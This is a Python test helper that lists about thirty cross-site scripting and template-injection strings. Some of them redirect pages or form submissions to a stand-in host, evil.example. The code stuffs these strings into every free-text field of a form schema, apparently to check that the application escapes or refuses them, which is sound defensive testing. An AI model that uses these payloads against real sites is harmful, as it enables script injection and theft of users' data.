"""Strings that would run if a page let them, and forms with them in every field that takes text."""

from __future__ import annotations

from collections.abc import Callable, Iterator, Mapping
from typing import Any

from engine.errors import BadInput

STRINGS = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<img src=x onerror=alert(3)>",
    "<svg onload=alert(4)>",
    '"><script>alert(5)</script>',
    "'><script>alert(6)</script>",
    '" onmouseover="alert(7)',
    "' autofocus onfocus='alert(8)",
    "javascript:alert(9)",
    "<a href=javascript:alert(10)>x</a>",
    "<iframe srcdoc='<script>alert(11)</script>'>",
    "<body onload=alert(12)>",
    "<details open ontoggle=alert(13)>",
    "<video><source onerror=alert(14)>",
    "<math><mi xlink:href='javascript:alert(15)'>",
    "<style>@import 'x:alert(16)'</style>",
    "<base href='//evil.example/17/'>",
    "<form action=//evil.example/18><input>",
    "<meta http-equiv=refresh content='0;//evil.example'>",
    "<link rel=stylesheet href=//evil.example/20>",
    "{{ 7*7 }}{% raw %}",
    "${alert(22)}",
    "</textarea><script>alert(23)</script>",
    "</title><script>alert(24)</script>",
    "<!--><script>alert(25)</script>-->",
    "<scr<script>ipt>alert(26)</script>",
    "&lt;script&gt;alert(27)&lt;/script&gt;",
    "\u2028alert(28)\u2029//",
    "\\u003cscript\\u003ealert(29)",
    "<input onfocus=alert(30) autofocus>",
)
LONGEST = 100  # what the shortest field of prose takes
# Fields that take a code of ours, not prose: whatever else they are given is refused.
CODES = frozenset({
    "co_units", "duplicate_of", "field", "lead_unit", "matter_code", "new_unit", "on_the_spot", "phone",
    "suggested_unit", "window",
})  # fmt: skip


def packs() -> list[str]:
    """The strings in as few texts as the shortest field allows."""
    found = [""]
    for each in STRINGS:
        fits = len(found[-1]) + len(each) <= LONGEST
        found[-1:] = [found[-1] + each] if fits else [found[-1], each]
    return found


def stuffed(schema: Mapping[str, Any], text: str) -> dict[str, Any]:
    """The text in every field of an object schema that takes prose, nested and repeating ones too."""
    parts = {name: _stuffed(part, text) for name, part in schema["properties"].items() if name not in CODES}
    return {name: value for name, value in parts.items() if value is not None}


def _stuffed(schema: Mapping[str, Any], text: str) -> Any:
    kind = schema.get("type")
    if kind == "array":
        item = _stuffed(schema["items"], text)
        return None if item is None else [item]
    if kind == "object":
        return stuffed(schema, text) or None
    prose = kind == "string" and not {"enum", "format", "const"} & schema.keys()
    return text if prose else None


def offered(do: Callable[[dict[str, Any]], Any], values: dict[str, Any]) -> set[str]:
    """Do it with these values, leaving out top-level fields that are refused; returns what was taken, by name."""
    for _ in range(8):
        try:
            do(values)
            return set(values)
        except BadInput as refused:
            wrong = {path.partition(".")[0] for path in refused.fields}
            assert wrong & values.keys(), refused.fields
            values = {name: value for name, value in values.items() if name not in wrong}
    raise AssertionError(sorted(values))


def prose(schema: Mapping[str, Any]) -> Iterator[str]:
    """Names of the top-level fields that take prose somewhere."""
    yield from stuffed(schema, "x")
